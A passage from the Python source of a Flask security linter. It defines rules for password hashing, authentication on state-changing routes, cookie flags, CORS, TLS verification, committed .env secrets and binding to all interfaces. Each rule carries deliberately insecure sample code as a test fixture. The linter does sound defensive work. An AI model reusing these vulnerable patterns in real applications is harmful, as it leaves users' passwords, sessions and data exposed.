    this site and the others where they reused it. A hash costs an attacker
    years per password instead of nothing.

    ## Example
    ```python
    if user.password == request.form["password"]:
        login_user(user)
    ```

    ## Use instead
    ```python
    user.password_hash = generate_password_hash(password)
    if check_password_hash(user.password_hash, request.form["password"]): ...
    ```
    """

    code = "FL514"
    name = "password-hashing"
    skill = "security"
    severity = "high"
    weight = 3.0
    good = (
        """\
from flask_sqlalchemy import SQLAlchemy
from werkzeug.security import check_password_hash, generate_password_hash

db = SQLAlchemy()


class User(db.Model):
    id = db.Column(db.Integer, primary_key=True)
    password_hash = db.Column(db.String(256))

    def set_password(self, password):
        self.password_hash = generate_password_hash(password)

    def check_password(self, password):
        return check_password_hash(self.password_hash, password)
""",
    )
    bad = (
        """\
from flask import Flask, request
from flask_sqlalchemy import SQLAlchemy

app = Flask(__name__)
db = SQLAlchemy(app)


class User(db.Model):
    id = db.Column(db.Integer, primary_key=True)
    password = db.Column(db.String(80))


@app.post("/login")
def login():
    user = User.query.filter_by(name=request.form["name"]).first()
    if user.password == request.form["password"]:
        return "welcome"
    return "no", 401
""",
    )

    def judge(self, project: ProjectModel) -> Verdict:
        modules = project.app_modules
        hashing = [
            (m, f) for m in modules for f in m.functions if any(c.rpartition(".")[2] in HASH_CALLS for c in f.calls)
        ]
        compares = [(m, loc) for m in modules for loc in m.password_compares]
        fields = [(m, name, loc) for m in modules for name, loc in m.password_fields]
        if not (hashing or compares or fields):
            return Verdict(NOT_APPLICABLE, "the code handles no passwords")
        found = [evidence(m.path, loc, "stored password compared with ==") for m, loc in compares[:3]]
        found += [evidence(m.path, loc, f"column `{name}` holds a password") for m, name, loc in fields[:3]]
        found += [evidence(m.path, f.loc, f"{f.qualname}() hashes or checks a password") for m, f in hashing[:3]]
        if hashing and not compares:
            return Verdict(MET, "passwords are hashed", found)
        if hashing:
            return Verdict(PARTLY, "passwords are hashed, but a stored password is also compared with ==", found)
        return Verdict(NOT_MET, "passwords are stored or compared in plain text", found)


STATE_CHANGING = frozenset({"POST", "PUT", "PATCH", "DELETE"})
PUBLIC_ENDPOINT = re.compile(r"(login|logout|signin|signup|register|token|auth|password|reset|webhook|health)", re.I)
AUTH_PACKAGES = ("flask_login", "flask_jwt_extended", "flask_httpauth", "flask_security", "flask_praetorian")


class AuthOnStateChangingRoutes(PracticeRule):
    """State-changing routes require authentication.

    ## What it checks
    In an app that has authentication (Flask-Login, flask-jwt-extended,
    Flask-HTTPAuth, or its own `*_required` decorators), that every POST,
    PUT, PATCH and DELETE route is protected: by a decorator such as
    `@login_required` / `@jwt_required()`, or by a `before_request` guard on
    its blueprint. Login, registration, token and password-reset endpoints
    are expected to be public. Partly met when at least half are protected.
    Not applicable to apps without authentication.

    ## Why it matters
    One forgotten decorator on a `DELETE` route lets anyone delete anyone's
    data; reviewers look for this first.

    ## Example
    ```python
    @bp.delete("/posts/<int:post_id>")
    def delete_post(post_id): ...
    ```

    ## Use instead
    ```python
    @bp.delete("/posts/<int:post_id>")
    @login_required
    def delete_post(post_id): ...
    ```
    """

    code = "FL515"
    name = "auth-on-state-changing-routes"
    skill = "security"
    severity = "high"
    weight = 3.0
    good = (
        """\
from flask import Flask
from flask_login import login_required

app = Flask(__name__)


@app.post("/login")
def login():
    return ""


@app.delete("/posts/<int:post_id>")
@login_required
def delete_post(post_id):
    return "", 204
""",
    )
    bad = (
        """\
from flask import Flask
from flask_login import login_required

app = Flask(__name__)


@app.post("/posts")
@login_required
def create_post():
    return "", 201


@app.delete("/posts/<int:post_id>")
def delete_post(post_id):
    return "", 204


@app.put("/posts/<int:post_id>")
def update_post(post_id):
    return ""
""",
    )

    @classmethod
    def applies(cls, project: ProjectModel) -> str | None:
        has_auth = any(
            imp.module.split(".")[0] in AUTH_PACKAGES for m in project.app_modules for imp in m.imports
        ) or any(is_auth_decorator(d) for m in project.app_modules for f in m.functions for d in f.decorators)
        return None if has_auth else "the app has no authentication"

    def judge(self, project: ProjectModel) -> Verdict:
        guarded_modules = {
            m.path
            for m in project.app_modules
            for f in m.functions
            if f.role == "hook"
            and any(c.rpartition(".")[2] in ("abort", "redirect", "verify_jwt_in_request") for c in f.calls)
        }
        protected, open_routes = [], []
        for module in project.app_modules:
            functions = {f.qualname: f for f in module.functions}
            for route in module.routes:
                if not STATE_CHANGING & set(route.methods) or PUBLIC_ENDPOINT.search(f"{route.function} {route.path}"):
                    continue
                func = functions.get(route.function)
                guarded = module.path in guarded_modules or (
                    func is not None and any(is_auth_decorator(d) for d in func.decorators)
                )
                (protected if guarded else open_routes).append((module, route))
        total = len(protected) + len(open_routes)
        if not total:
            return Verdict(NOT_APPLICABLE, "no state-changing routes besides authentication endpoints")
        found = [
            evidence(m.path, r.loc, f"{'/'.join(r.methods)} {r.path or r.function} has no authentication")
            for m, r in open_routes[:5]
        ]
        if not open_routes:
            return Verdict(MET, f"all {plural(total, 'state-changing route')} require authentication", found)
        status = PARTLY if len(protected) >= len(open_routes) else NOT_MET
        return Verdict(
            status, f"{len(open_routes)} of {plural(total, 'state-changing route')} have no authentication", found
        )


COOKIE_FLAGS = {
    "SESSION_COOKIE_SECURE": "is_false",
    "SESSION_COOKIE_HTTPONLY": "is_false",
    "REMEMBER_COOKIE_SECURE": "is_false",
    "REMEMBER_COOKIE_HTTPONLY": "is_false",
    "SESSION_COOKIE_SAMESITE": "is_none",
}


class InsecureCookies(FileRule):
    """Session cookies are configured insecurely.

    ## What it checks
    `SESSION_COOKIE_SECURE`, `SESSION_COOKIE_HTTPONLY`,
    `REMEMBER_COOKIE_SECURE` / `_HTTPONLY` set to `False`, or
    `SESSION_COOKIE_SAMESITE = None`, outside development and testing
    config; and `set_cookie(..., secure=False)` / `httponly=False`.

    ## Why it matters
    Without `Secure` the session cookie travels over plain HTTP; without
    `HttpOnly` any injected script can read it; without `SameSite` it rides
    along with cross-site requests.

    ## Example
    ```python
    SESSION_COOKIE_HTTPONLY = False
    ```

    ## Use instead
    ```python
    SESSION_COOKIE_SECURE = True
    SESSION_COOKIE_HTTPONLY = True
    SESSION_COOKIE_SAMESITE = "Lax"
    ```
    """

    code = "FL516"
    name = "insecure-cookies"
    skill = "security"
    severity = "medium"
    weight = 1.0
    good = (
        """\
class Config:
    SESSION_COOKIE_SECURE = True
    SESSION_COOKIE_HTTPONLY = True
    SESSION_COOKIE_SAMESITE = "Lax"


class DevelopmentConfig(Config):
    SESSION_COOKIE_SECURE = False
""",
    )
    bad = (
        """\
class Config:
    SESSION_COOKIE_HTTPONLY = False
""",
        """\
from flask import Flask, make_response

app = Flask(__name__)


@app.get("/")
def index():
    response = make_response("ok")
    response.set_cookie("token", "abc", secure=False, httponly=False)
    return response
""",
    )

    def visit_Assign(self, node: cst.Assign) -> None:
        if in_non_production_config(self.ctx):
            return
        for target in node.targets:
            key = _target_name(target.target)
            check = COOKIE_FLAGS.get(key or "")
            if (check == "is_false" and is_false(node.value)) or (check == "is_none" and is_none(node.value)):
                self.report(node, f"{key} weakens the session cookie")

    def visit_Call(self, node: cst.Call) -> None:
        if call_tail(node) != "set_cookie":
            return
        weak = [flag for flag in ("secure", "httponly") if is_false(kwarg_value(node, flag))]
        if weak:
            self.report(node, f"set_cookie() with {', '.join(f + '=False' for f in weak)}")


class CorsWildcardWithCredentials(FileRule):
    """CORS allows any origin together with credentials.

    ## What it checks
    `CORS(app, supports_credentials=True)` (or `cross_origin(...)`) where the
    allowed origins are `"*"`, or not given (Flask-CORS then allows every
    origin).

    ## Why it matters
    Any website the user visits can then make authenticated requests to your
    API with the user's cookies and read the responses.

    ## Example
    ```python
    CORS(app, supports_credentials=True)
    ```

    ## Use instead
    ```python
    CORS(app, origins=["https://app.example.com"], supports_credentials=True)
    ```
    """

    code = "FL517"
    name = "cors-wildcard-credentials"
    skill = "security"
    severity = "high"
    weight = 1.0
    good = (
        """\
from flask import Flask
from flask_cors import CORS

app = Flask(__name__)
CORS(app, origins=["https://app.example.com"], supports_credentials=True)
CORS(app, resources={r"/public/*": {"origins": "*"}})
""",
    )
    bad = (
        """\
from flask import Flask
from flask_cors import CORS

app = Flask(__name__)
CORS(app, supports_credentials=True)
""",
        """\
from flask import Flask
from flask_cors import CORS

app = Flask(__name__)
CORS(app, origins="*", supports_credentials=True)
""",
    )

    def visit_Call(self, node: cst.Call) -> None:
        qual = self.ctx.qualname(node.func) or ""
        if qual not in ("flask_cors.CORS", "flask_cors.cross_origin"):
            return
        if not is_true(kwarg_value(node, "supports_credentials")):
            return
        origins = kwarg_value(node, "origins")
        if (origins is None and kwarg_value(node, "resources") is None) or string_value(origins) == "*":
            self.report(node, "every origin may send credentialed requests and read the answers")


HTTP_CLIENTS = frozenset(
    {
        "requests.get",
        "requests.post",
        "requests.put",
        "requests.patch",
        "requests.delete",
        "requests.head",
        "requests.request",
        "requests.options",
    }
)


class OutboundHttp(FileRule):
    """Outbound HTTP calls have no timeout, or do not verify TLS.

    ## What it checks
    `requests.get/post/...` without `timeout=` (low), and any `requests` or
    `httpx` call with `verify=False` (high).

    ## Why it matters
    Without a timeout, a slow upstream holds a worker forever: a handful of
    hung calls take the whole app down. Without TLS verification anyone on
    the network path can read and change the traffic.

    ## Example
    ```python
    requests.get(url, verify=False)
    ```

    ## Use instead
    ```python
    requests.get(url, timeout=5)
    ```
    """

    code = "FL518"
    name = "outbound-http"
    skill = "security"
    severity = "low"
    weight = 1.0
    good = (
        """\
import requests


def fetch(url):
    return requests.get(url, timeout=5).json()
""",
    )
    bad = (
        """\
import requests


def fetch(url):
    return requests.get(url).json()
""",
        """\
import httpx


def fetch(url):
    return httpx.get(url, verify=False).json()
""",
    )

    def visit_Call(self, node: cst.Call) -> None:
        qual = self.ctx.qualname(node.func) or ""
        if not qual.startswith(("requests.", "httpx.")):
            return
        if is_false(kwarg_value(node, "verify")):
            self.report(node, f"{qual}(verify=False) turns off TLS certificate checks", "high")
        elif qual in HTTP_CLIENTS and keyword_arg(node, "timeout") is None:
            self.report(node, f"{qual}() without timeout= can hang a worker forever")


ENV_FILE = re.compile(r"(^|/)\.env(\.[\w-]+)?$")
ENV_TEMPLATE = re.compile(r"(example|sample|template|dist|defaults?)$", re.I)


def committed_env_files(project: ProjectModel) -> list[str]:
    return [rel for rel in project.other_files if ENV_FILE.search(rel) and not ENV_TEMPLATE.search(rel)]


class CommittedEnvSecrets(ProjectRule):
    """A `.env` file with secrets is committed.

    ## What it checks
    `.env` files (and `.env.production`, `.env.local`, ...; not
    `.env.example` / `.env.sample` / `.env.template`) that set secret-looking
    variables (`SECRET_KEY`, `*_PASSWORD`, `*_TOKEN`, `*_API_KEY`) to
    non-empty values.

    ## Why it matters
    The file is in every clone of the repository and in its history forever;
    the secrets in it must be considered leaked.

    ## Example
    ```
    SECRET_KEY=8f2c...
    DATABASE_PASSWORD=hunter2
    ```

    ## Use instead
    Commit `.env.example` with the names and no values, and add `.env` to
    `.gitignore`.
    """

    code = "FL519"
    name = "committed-env-secrets"
    skill = "security"
    severity = "high"
    weight = 2.0
    good = ({"app.py": "from flask import Flask\n", ".env.example": "SECRET_KEY=\nDATABASE_PASSWORD=\n"},)
    bad = ({"app.py": "from flask import Flask\n", ".env": "FLASK_APP=app\nSECRET_KEY=8f2c1e\n"},)

    def check(self, project: ProjectModel) -> Iterator[Finding]:
        for rel in committed_env_files(project):
            for number, line in enumerate((project.read_text(rel) or "").splitlines(), 1):
                key, sep, value = line.strip().removeprefix("export ").partition("=")
                value = value.strip().strip("'\"")
                if sep and value and _secret_name(key.strip()) and not value.startswith("${"):
                    yield self.finding(rel, number, f"{key.strip()} is committed in {posixpath.basename(rel)}")


class BindAllInterfaces(FileRule):
    """The development server listens on every network interface.

    ## What it checks
    `app.run(host="0.0.0.0")` (or `"::"`) in code.

    ## Why it matters
    The development server (often with the debugger on) becomes reachable
    from the whole network. Production servers bind through their own
    configuration (`gunicorn --bind`), not through `app.run`.

    ## Example
    ```python
    app.run(host="0.0.0.0", port=5000)
    ```

    ## Use instead
    Run `flask run` locally (it binds 127.0.0.1) and a WSGI server with an
    explicit `--bind` in containers.
    """

    code = "FL520"
    name = "bind-all-interfaces"
    skill = "security"
    severity = "low"
    weight = 1.0
    good = (
        """\
from flask import Flask

app = Flask(__name__)

if __name__ == "__main__":
    app.run(host="127.0.0.1")
""",
    )
    bad = (
        """\
from flask import Flask

app = Flask(__name__)

if __name__ == "__main__":
    app.run(host="0.0.0.0", port=5000)
""",
    )

    def visit_Call(self, node: cst.Call) -> None:
        if call_tail(node) == "run" and string_value(kwarg_value(node, "host")) in ("0.0.0.0", "::"):
            self.report(node, "app.run() binds every network interface")
